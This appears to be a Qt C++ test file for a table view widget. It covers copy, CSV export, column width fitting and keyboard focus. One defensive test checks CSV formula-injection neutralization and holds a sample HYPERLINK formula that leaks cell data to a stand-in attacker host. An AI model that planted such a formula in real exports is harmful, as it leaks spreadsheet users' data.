#include "ui/models/columns.h"
#include "ui/models/recordtablemodel.h"
#include "ui/widgets/tableview.h"

#include <QApplication>
#include <QHeaderView>
#include <QPushButton>
#include <QTemporaryDir>
#include <QVBoxLayout>
#include <QtTest>
#include <numeric>

/// The desk's table: copy as tab-separated text, export as CSV.
class TestUiTableView : public QObject
{
    Q_OBJECT

    /// What the view's CSV export writes, or why it wrote nothing.
    static QString exportedCsv(const rd::ui::TableView &view)
    {
        QTemporaryDir dir;
        const QString path = dir.filePath(u"out.csv"_qs);
        QString error;
        if (!view.exportCsv(path, &error))
            return u"(export failed: %1)"_qs.arg(error);
        QFile f(path);
        if (!f.open(QIODevice::ReadOnly))
            return u"(not written)"_qs;
        return QString::fromUtf8(f.readAll());
    }

private slots:
    void copyAndExportCsv()
    {
        rd::ui::RecordTableModel records(2,
            {{u"key"_qs,
                 [](rd::ui::RowRef r, int role) {
                     return role == Qt::DisplayRole ? r[0] : QVariant();
                 }},
                {u"note"_qs,
                    [](rd::ui::RowRef r, int role) {
                        return role == Qt::DisplayRole ? r[1] : QVariant();
                    }}},
            0);
        records.setRows({u"k1"_qs, u"plain"_qs, u"k2"_qs, u"with, comma and \"quote\""_qs});
        rd::ui::TableView view;
        view.setModel(&records);
        view.selectAll();
        QCOMPARE(view.selectionAsText(), u"key\tnote\nk1\tplain\nk2\twith, comma and \"quote\""_qs);
        QCOMPARE(
            exportedCsv(view), u"key,note\nk1,plain\nk2,\"with, comma and \"\"quote\"\"\"\n"_qs);
    }

    /// A value from a provider or an operator that a spreadsheet would run as a formula is
    /// exported with a leading apostrophe; a count stays a number, also a negative one.
    void exportNeutralizesFormulas()
    {
        rd::ui::RecordTableModel records(2,
            {{u"note"_qs,
                 [](rd::ui::RowRef r, int role) {
                     return role == Qt::DisplayRole ? r[0] : QVariant();
                 }},
                rd::ui::columns::count(u"count"_qs, 1)},
            0);
        records.setRows({u"=HYPERLINK(\"http://attacker.example/?leak=\"&A1,\"x\")"_qs, qint64(-3),
            u"-3"_qs, qint64(4), u"@SUM(A1)"_qs, qint64(0), u"plain"_qs, qint64(1)});
        rd::ui::TableView view;
        view.setModel(&records);
        QCOMPARE(exportedCsv(view),
            u"note,count\n"
            "\"'=HYPERLINK(\"\"http://attacker.example/?leak=\"\"&A1,\"\"x\"\")\",-3\n"
            "'-3,4\n'@SUM(A1),0\nplain,1\n"_qs);
    }

    /// Fitting the columns to a width: everything natural when it fits; otherwise the wide
    /// columns give way down to a floor, and the columns kept whole never do.
    void fitColumnsToAWidth_data()
    {
        QTest::addColumn<int>("available"); // in em
        QTest::addColumn<QList<int>>("whole");
        QTest::newRow("room for all") << 200 << QList<int> {0};
        QTest::newRow("tight, the time whole") << 30 << QList<int> {0};
        QTest::newRow("tight, time and amount whole") << 30 << QList<int> {0, 2};
        QTest::newRow("far too narrow, nothing whole") << 5 << QList<int> {};
        QTest::newRow("far too narrow, the amount whole") << 5 << QList<int> {2};
    }

    void fitColumnsToAWidth()
    {
        QFETCH(int, available);
        QFETCH(QList<int>, whole);
        auto column = [](const QString &name, int i) {
            return rd::ui::Column {name, [i](rd::ui::RowRef r, int role) {
                                       return role == Qt::DisplayRole ? r[i] : QVariant();
                                   }};
        };
        // The last column stretches over what is left (stretchLastSection): "#", not checked.
        rd::ui::RecordTableModel records(5,
            {column(u"when"_qs, 0), column(u"note"_qs, 1), column(u"amount"_qs, 2),
                column(u"hash"_qs, 3), column(u"#"_qs, 4)},
            0);
        const QString longText(60, u'x');
        records.setRows({u"1 Dec 2026 16:43:07"_qs, longText, u"$1,234,567.89"_qs, longText,
            u"1"_qs, u"2 Dec 2026 09:00:00"_qs, u"short"_qs, u"$1.00"_qs, longText, u"2"_qs});
        rd::ui::TableView view;
        view.setModel(&records);
        view.setWholeColumns(whole);
        const int em = view.fontMetrics().horizontalAdvance(u'M');
        QVector<int> natural;
        for (int c = 0; c < 5; ++c)
            natural << view.naturalColumnWidth(c);
        const int total = std::accumulate(natural.cbegin(), natural.cend(), 0);
        view.fitColumnsTo(available * em);
        // The floor is 9 em, or 6 em where 9 em does not fit either (a narrow view).
        int nineEmSum = std::min(natural[4], view.horizontalHeader()->sectionSizeHint(4) + 8);
        for (int c = 0; c < 4; ++c)
            nineEmSum += whole.contains(c) ? natural[c] : std::min(natural[c], 9 * em);
        const int floor = nineEmSum > available * em ? 6 * em : 9 * em;
        int sum = natural[4]; // as set; the view then stretches it
        for (int c = 0; c < 4; ++c) {
            const int w = view.columnWidth(c);
            sum += w;
            if (total <= available * em || whole.contains(c))
                QCOMPARE(w, natural[c]);
            else
                QVERIFY2(w >= std::min(natural[c], floor) && w <= natural[c],
                    qPrintable(u"column %1: %2 of %3"_qs.arg(c).arg(w).arg(natural[c])));
        }
        if (total > available * em) {
            // The wide columns gave way: within the width if that was possible, at the floor
            // otherwise.
            int floorSum = 0;
            for (int c = 0; c < 5; ++c)
                floorSum += whole.contains(c) ? natural[c] : std::min(natural[c], floor);
            QVERIFY2(sum <= std::max(available * em, floorSum) + em,
                qPrintable(u"%1 px in %2 px"_qs.arg(sum).arg(available * em)));
            QVERIFY(sum < total);
        }
    }

    /// A column gives way no further than its header's text: German titles are longer than
    /// the floor ("Letzte Verlängerung" showed as "Letzte Verlängerur").
    void aColumnKeepsItsTitleWhole()
    {
        auto column = [](const QString &name, int i) {
            return rd::ui::Column {name, [i](rd::ui::RowRef r, int role) {
                                       return role == Qt::DisplayRole ? r[i] : QVariant();
                                   }};
        };
        const QString title = u"Letzte Verlängerung des Abonnements"_qs;
        rd::ui::RecordTableModel records(
            3, {column(u"note"_qs, 0), column(title, 1), column(u"#"_qs, 2)}, 0);
        const QString longText(80, u'x');
        records.setRows({longText, longText, u"1"_qs, longText, longText, u"2"_qs});
        rd::ui::TableView view;
        view.setModel(&records);
        const int em = view.fontMetrics().horizontalAdvance(u'M');
        const int header = view.horizontalHeader()->sectionSizeHint(1);
        QVERIFY2(header > 9 * em, "the title is wider than the floor, or the test shows nothing");
        // Room for the titles (the floor, this title, "#"), not for the 80-character texts.
        const int roomForTitles = 9 * em + header + 8 + 4 * em;
        view.fitColumnsTo(roomForTitles);
        QVERIFY2(view.columnWidth(1) >= header,
            qPrintable(u"%1 px for a title of %2 px"_qs.arg(view.columnWidth(1)).arg(header)));
        // The other wide column still gives way down to the floor.
        QVERIFY(view.columnWidth(0) < view.naturalColumnWidth(0));

        // A view too narrow for the titles: the wide columns fit it, as before (no scroll bar).
        view.fitColumnsTo(20 * em);
        QVERIFY2(view.columnWidth(0) + view.columnWidth(1) <= 20 * em,
            qPrintable(u"%1 + %2 px for %3 px"_qs.arg(view.columnWidth(0))
                           .arg(view.columnWidth(1))
                           .arg(20 * em)));
        QVERIFY(view.columnWidth(1) < header);
    }

    /// The last column stretches over what is left, so its long texts take no room from the
    /// others: they keep their natural widths when those fit with the last one's title
    /// (#38: the Subscriptions page's next step, a sentence, clipped every German title).
    void theLastColumnTakesWhatIsLeft()
    {
        auto column = [](const QString &name, int i) {
            return rd::ui::Column {name, [i](rd::ui::RowRef r, int role) {
                                       return role == Qt::DisplayRole ? r[i] : QVariant();
                                   }};
        };
        rd::ui::RecordTableModel records(3,
            {column(u"Letzte Verlängerung"_qs, 0), column(u"note"_qs, 1),
                column(u"Nächster Schritt"_qs, 2)},
            0);
        const QString sentence(200, u'x');
        records.setRows({u"18.09.26 11:33"_qs, QString(30, u'y'), sentence, u"19.09.26 11:33"_qs,
            u"short"_qs, sentence});
        rd::ui::TableView view;
        view.setModel(&records);
        QVERIFY(view.horizontalHeader()->stretchLastSection());
        const int first = view.naturalColumnWidth(0);
        const int second = view.naturalColumnWidth(1);
        const int lastTitle = view.horizontalHeader()->sectionSizeHint(2) + 8;
        QVERIFY(view.naturalColumnWidth(2) > first + second + lastTitle);
        view.fitColumnsTo(first + second + lastTitle + 10);
        QCOMPARE(view.columnWidth(0), first);
        QCOMPARE(view.columnWidth(1), second);
    }

    /// Tab and Shift+Tab leave the table for the controls around it (a case's Claim, Re-apply,
    /// Dismiss); the selected row stays the same. Moving cell by cell (Qt's default) changed the
    /// selection at the end of each row, and nothing after the table was reachable.
    void tabLeavesTheTable()
    {
        rd::ui::RecordTableModel records(2,
            {{u"key"_qs,
                 [](rd::ui::RowRef r, int role) {
                     return role == Qt::DisplayRole ? r[0] : QVariant();
                 }},
                {u"note"_qs,
                    [](rd::ui::RowRef r, int role) {
                        return role == Qt::DisplayRole ? r[1] : QVariant();
                    }}},
            0);
        records.setRows({u"k1"_qs, u"a"_qs, u"k2"_qs, u"b"_qs, u"k3"_qs, u"c"_qs});
        QWidget window;
        auto *before = new QPushButton(u"Before"_qs);
        auto *view = new rd::ui::TableView;
        auto *after = new QPushButton(u"Claim"_qs);
        auto *layout = new QVBoxLayout(&window);
        layout->addWidget(before);
        layout->addWidget(view);
        layout->addWidget(after);
        view->setModel(&records);
        window.show();
        window.activateWindow();
        QVERIFY(QTest::qWaitForWindowActive(&window));
        view->setFocus(Qt::TabFocusReason);
        view->selectRow(1);
        QVERIFY(view->hasFocus());
        // Each cell of the row, and further: still the focus leaves at once.
        QTest::keyClick(view, Qt::Key_Tab);
        QVERIFY2(
            after->hasFocus(), qPrintable(QApplication::focusWidget()->metaObject()->className()));
        QCOMPARE(view->currentIndex().row(), 1);
        QTest::keyClick(after, Qt::Key_Backtab, Qt::ShiftModifier);
        QVERIFY(view->hasFocus());
        QTest::keyClick(view, Qt::Key_Backtab, Qt::ShiftModifier);
        QVERIFY(before->hasFocus());
        QCOMPARE(view->currentIndex().row(), 1);
        QCOMPARE(view->selectionModel()->selectedRows().size(), 1);
        // The arrows still move within it.
        view->setFocus(Qt::TabFocusReason);
        QTest::keyClick(view, Qt::Key_Down);
        QCOMPARE(view->currentIndex().row(), 2);
    }
};

QTEST_MAIN(TestUiTableView)
#include "tst_ui_tableview.moc"
